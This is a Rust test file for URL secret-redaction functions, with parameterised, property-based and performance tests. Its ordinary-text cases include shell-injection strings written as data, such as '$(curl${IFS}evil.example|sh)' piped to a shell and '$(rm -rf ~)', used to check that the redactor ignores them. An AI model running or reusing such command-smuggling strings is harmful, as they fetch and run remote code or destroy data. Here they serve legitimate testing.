use super::*;
use proptest::prelude::*;
use rstest::rstest;

const R: &str = REDACTED;

#[rstest]
#[case::api_key("https://a.example/x?api_key=S3", "https://a.example/x?api_key=R")]
#[case::access_token(
    "https://a.example/x?q=1&access_token=S3&z=2",
    "https://a.example/x?q=1&access_token=R&z=2"
)]
#[case::token("http://a.example?token=S3#top", "http://a.example?token=R#top")]
#[case::sig(
    "https://a.example/b?sv=1&sig=S3%2F%3D",
    "https://a.example/b?sv=1&sig=R"
)]
#[case::signed(
    "https://a.example/?X-Amz-Date=1&X-Amz-Signature=S3",
    "https://a.example/?X-Amz-Date=1&X-Amz-Signature=R"
)]
#[case::key("https://a.example/?key=S3", "https://a.example/?key=R")]
#[case::password(
    "https://a.example/?user=me&password=S3'x",
    "https://a.example/?user=me&password=R"
)]
#[case::userinfo("https://me:S3@a.example/x", "https://me:R@a.example/x")]
#[case::userinfo_with_at("https://me:S3@S3@a.example/x", "https://me:R@a.example/x")]
#[case::userinfo_with_slash("postgres://me:S3/S3@db/x", "postgres://me:R@db/x")]
#[case::no_user("redis://:S3@db", "redis://:R@db")]
#[case::key_as_user(
    "https://ghp_S3S3S3S3S3S3S3S3@a.example/x.git",
    "https://R@a.example/x.git"
)]
#[case::key_and_no_password("https://sk_S3:@a.example/v1", "https://R:@a.example/v1")]
#[case::fragment(
    "https://a.example/cb#state=1&access_token=S3&type=bearer",
    "https://a.example/cb#state=1&access_token=R&type=bearer"
)]
#[case::path_parameter(
    "https://a.example/x;jsessionid=S3?a=1",
    "https://a.example/x;jsessionid=R?a=1"
)]
#[case::encoded_name("https://a.example/?api%5Fkey=S3", "https://a.example/?api%5Fkey=R")]
#[case::bracketed(
    "https://a.example/?user[password]=S3",
    "https://a.example/?user[password]=R"
)]
#[case::nested(
    "https://a.example/?next=https://u:S3@b.example/?token=S3",
    "https://a.example/?next=https://u:R@b.example/?token=R"
)]
#[case::nested_and_encoded(
    "https://a.example/?next=https%3A%2F%2Fb.example%2F%3Ftoken%3DS3&x=1",
    "https://a.example/?next=R&x=1"
)]
#[case::nested_twice(
    "https://a.example/?n=https%253A%252F%252Fu%253AS3%2540b.example",
    "https://a.example/?n=R"
)]
#[case::by_its_look("https://a.example/?q=ghp_S3S3S3S3S3S3S3S3", "https://a.example/?q=R")]
#[case::bot(
    "https://a.example/bot12345:AAS3S3S3S3S3S3S3S3S3S3S3S3S3S3S3/send",
    "https://a.example/R/send"
)]
#[case::no_scheme("a.example/?api_key=S3", "a.example/?api_key=R")]
#[case::relative("location: /cb?access_token=S3", "location: /cb?access_token=R")]
#[case::protocol_relative("//me:S3@a.example/", "//me:R@a.example/")]
#[case::sentence(
    "see (https://a.example/?token=S3), then https://u:S3@b.example.",
    "see (https://a.example/?token=R), then https://u:R@b.example."
)]
#[case::json(
    r#"{"a":"https:\/\/u:S3@a.example\/?q=1\u0026token=S3","b":1}"#,
    r#"{"a":"https:\/\/u:R@a.example\/?q=1\u0026token=R","b":1}"#
)]
#[case::json_in_between(
    r#"{"a":"https://a.example/?token=S3\u0026q=1\u0026x=2"}"#,
    r#"{"a":"https://a.example/?token=R\u0026q=1\u0026x=2"}"#
)]
#[case::html(
    r#"<a href="https://a.example/?q=1&amp;sig=S3">x</a>"#,
    r#"<a href="https://a.example/?q=1&amp;sig=R">x</a>"#
)]
#[case::remote(
    "origin\thttps://me:S3@a.example/r.git (fetch)\n",
    "origin\thttps://me:R@a.example/r.git (fetch)\n"
)]
#[case::command(
    "curl -s 'https://a.example/?key=S3' | jq",
    "curl -s 'https://a.example/?key=R' | jq"
)]
#[case::chinese(
    "打开https://a.example/?token=S3，然后看",
    "打开https://a.example/?token=R，然后看"
)]
fn a_secret_in_an_address_was_shown(#[case] text: &str, #[case] shown: &str) {
    let redacted = redact_addresses(text);
    assert!(!redacted.contains("S3"), "{redacted}");
    let shown = shown
        .replace("=R", &format!("={R}"))
        .replace(":R@", &format!(":{R}@"));
    let shown = shown
        .replace("//R", &format!("//{R}"))
        .replace("/R", &format!("/{R}"));
    assert_eq!(redacted, shown);
}

#[rstest]
#[case("https://a.example/x?page=2&sort_key=name#top")]
#[case("https://a.example:8080/@user/x")]
#[case("https://me@a.example/x")]
#[case("ssh://git@a.example:22/r.git")]
#[case("git@a.example:r.git")]
#[case("https://[::1]:80/@x")]
#[case("http://localhost:${PORT}/@vite/client")]
#[case("https://a.example/?mail=a:b@c.example")]
#[case("https://a.example/tokens/token?author=me&monkey=1&tokens=3")]
#[case("https://a.example/?token=&key=")]
#[case("https://u:${PASSWORD}@a.example/?token=$TOKEN&key={key}&sig=***")]
#[case("file:///home/u:x@y/z")]
#[case("mailto:a@b.example")]
#[case("https://a.example/sk-learn-an-introduction-to-learning")]
#[case("x = a if b == c else d; token = read()")]
#[case("cargo run -- --token=abc && key=1")]
#[case("// a comment, from me: mail a@b.example")]
#[case("see https://a.example/ and write to me: x@y.example")]
#[case("1 == 2 ? a : b")]
#[case("true;key=$(curl${IFS}evil.example|sh)")]
#[case("a=1;token=read()")]
#[case("true&token=reboot")]
#[case("a#key=1;b?secret=2")]
#[case("let a=b?token=c:d")]
#[case("a/b?token=c:d")]
#[case("curl https://a.example/?key=$(rm -rf ~)")]
#[case("curl https://a.example/?key=$(rm${IFS}-rf${IFS}~)")]
#[case("curl \"https://a.example/?key=`reboot`\"")]
#[case("curl https://a.example/?token=$AWS_KEY2")]
#[case("curl https://a.example/?a=1&key=reboot;$key")]
#[case("curl https://a.example/;token=reboot;${token}")]
#[case("curl https://a.example/?a=1&key=(reboot)")]
#[case("curl https://a.example/?a=b;key=reboot")]
#[case("curl https://a.example/?key=<(reboot)")]
#[case("x://;key=$(curl${IFS}evil.example|sh)")]
#[case("x://?key=a|sh")]
#[case("x://h?key=;reboot;")]
#[case("x://u:$(curl${IFS}evil.example|sh)@h")]
#[case("x://u:;reboot;@h")]
#[case("x://$(curl${IFS}evil.example|sh)1234567890@h")]
#[case("x://u:&reboot&/x@h")]
#[case("x://hooks.slack.com/services/;reboot;")]
#[case("p //;token=system(:reboot)")]
#[case("https://a.example/?pageToken=CAUQAA&continuationToken=b&next_page_token=c")]
fn an_ordinary_text_was_changed(#[case] text: &str) {
    assert!(
        matches!(redact_addresses(text), Cow::Borrowed(_)),
        "{}",
        redact_addresses(text)
    );
}

#[test]
fn a_path_that_is_a_key_was_shown() {
    for place in KEY_FOLLOWS {
        let text = format!("post to https://{place}T0/B0/S3, or not");
        let shown = format!("post to https://{place}{R}, or not");
        assert_eq!(redact_addresses(&text), shown);
        assert_eq!(redact_addresses(&shown), shown);
    }
}

#[rstest]
#[case(
    "docker://alpine:3.19@sha256:6457d53fb065d6f250e1504b9bc42d5b6c65941d57532c072d929dd0628977d0"
)]
#[case(
    "oci://ghcr.io/a/b:1.2@sha256:6457d53fb065d6f250e1504b9bc42d5b6c65941d57532c072d929dd0628977d0"
)]
#[case(
    "docker-pullable://redis:7@sha512:6457d53fb065d6f250e1504b9bc42d5b6c65941d57532c072d929dd0628977d0"
)]
#[case("git@github.com:org/repo")]
#[case("ssh://git@github.com:org/repo.git")]
#[case("git+ssh://gh:org/repo@v1.2.3")]
#[case("mailto:a@b")]
#[case("https://a.example,mailto:me@b.example")]
#[case("[me](https://a.example):me@b.example")]
#[case("//contact:me@b.example")]
#[case("http://localhost:3000/@scope/pkg")]
#[case("http://web:3000/@scope/pkg@1.2.3")]
#[case("https://cdn.example/npm/pkg@1.2.3/+esm")]
#[case("npm:pkg@1.2.3")]
#[case("npm://pkg:core@1.2.3-rc.1")]
#[case("pkg:npm/%40scope/pkg@1.2.3")]
#[case("https://a.example/a:b@c")]
#[case("http://[::1]:80/a:b@c")]
#[case("write to:me@b.example, see https://a.example/")]
#[case("jdbc:mysql://db:3306/x?user=a@b")]
fn what_a_program_printed_was_changed(#[case] printed: &str) {
    for text in [
        printed.to_owned(),
        format!("see {printed}, or \"{printed}\"\n"),
    ] {
        let shown = redact_passwords(&text);
        assert!(matches!(shown, Cow::Borrowed(_)), "{shown}");
        assert_eq!(redact_addresses(&text), text);
    }
}

#[test]
fn of_what_programs_print_the_parameters_stay() {
    let printed = "https://u:S3@a.example/?X-Amz-Signature=abc";
    assert_eq!(
        redact_passwords(printed),
        format!("https://u:{R}@a.example/?X-Amz-Signature=abc")
    );
}

#[test]
fn only_what_is_no_word_is_a_secret_wherever_it_stands() {
    let text = "https://u:hunter22@a.example/?key=python&token=abcdef0123456789&sig=a%2Bb01234567";
    assert_eq!(
        address_secrets(text),
        [
            "hunter22",
            "abcdef0123456789",
            "a%2Bb01234567",
            "a+b01234567"
        ]
    );
}

/// Parts of addresses, and what stands around them.
fn pieces() -> impl Strategy<Value = String> {
    let piece = prop::sample::select(vec![
        "https://",
        "http:",
        "//",
        "/",
        "?",
        "&",
        "#",
        ";",
        "=",
        "@",
        ":",
        "u",
        "a.example",
        "token",
        "key",
        "sig",
        "[redacted]",
        "redacted",
        "[",
        "]",
        "%3D",
        "%26",
        "%",
        "2",
        " ",
        "\"",
        "'",
        "\\/\\/",
        ".",
        ")",
        "${A}",
        "ghp_S3S3S3S3S3S3S3S3",
        "é",
        "，",
        "next=https%3A%2F%2Fa%3Ab%40c",
        "S3",
    ]);
    prop::collection::vec(piece, 0..16).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn what_is_shown_once_is_shown_so_again(text in pieces()) {
        let once = redact_addresses(&text).into_owned();
        prop_assert_eq!(&redact_addresses(&once), &once);
        let once = redact_passwords(&text).into_owned();
        prop_assert_eq!(&redact_passwords(&once), &once);
    }

    #[test]
    fn any_text_is_taken(text in ".{0,200}") {
        let once = redact_addresses(&text).into_owned();
        prop_assert_eq!(&redact_addresses(&once), &once);
        let _ = address_secrets(&text);
    }

    #[test]
    fn an_ordinary_address_stays_as_it_is(
        host in "[a-z]{1,9}(\\.[a-z]{1,9}){0,2}",
        port in prop::option::of(1u16..),
        path in prop::collection::vec("[a-z0-9@:._-]{1,8}", 0..4),
        query in prop::collection::vec(("(q|page|lang|id|ref|sort|v)[0-9]{0,2}", "[a-z0-9%+.-]{0,10}"), 0..4),
        fragment in prop::option::of("[a-z0-9-]{1,9}"),
    ) {
        let port = port.map(|port| format!(":{port}")).unwrap_or_default();
        let query: Vec<_> = query.iter().map(|(name, value)| format!("{name}={value}")).collect();
        let query = query.join("&");
        let fragment = fragment.map(|name| format!("#{name}")).unwrap_or_default();
        let text = format!("https://{host}{port}/{}?{query}{fragment}", path.join("/"));
        prop_assert_eq!(redact_addresses(&text), text.as_str());
    }

    #[test]
    fn a_secret_is_nowhere_in_what_is_shown(
        before in "[a-z ]{0,9}",
        name in prop::sample::select(vec!["api_key", "access_token", "token", "sig", "X-Amz-Signature", "key", "password"]),
        secret in "[A-Za-z0-9+/=_.~-]{0,20}QZ[A-Za-z0-9+/=_~-]{0,20}",
        place in prop::sample::select(vec!["?", "?a=1&", "#", "#state=1&"]),
    ) {
        let text = format!("{before} https://a.example/x{place}{name}={secret} and more");
        let shown = redact_addresses(&text);
        prop_assert!(!shown.contains("QZ"), "{shown}");
        prop_assert!(shown.starts_with(&before) && shown.ends_with(" and more"));
        let text = format!("https://me:{}@a.example/", secret.replace('/', "_"));
        prop_assert!(!redact_addresses(&text).contains("QZ"));
    }
}

/// Each of these took its length squared.
#[test]
fn a_long_text_without_a_break_is_looked_through_once() {
    const MANY: usize = 1 << 12;
    for part in [
        "a://",
        "//",
        "&a=1",
        "&key=1",
        r"a:\/\/",
        "?a=%41",
        "a://u:p@h/",
        "=",
        ";",
        "#x=y//",
    ] {
        for before in ["", "https://a.example/?", "$a${b /a?"] {
            let text = format!("{before}{}", part.repeat(MANY));
            let shown = redact_addresses(&text);
            assert_eq!(
                shown.contains(R),
                part.contains("key") && !before.is_empty() || part.contains('@'),
                "{part}"
            );
            let _ = redact_passwords(&text);
        }
    }
}
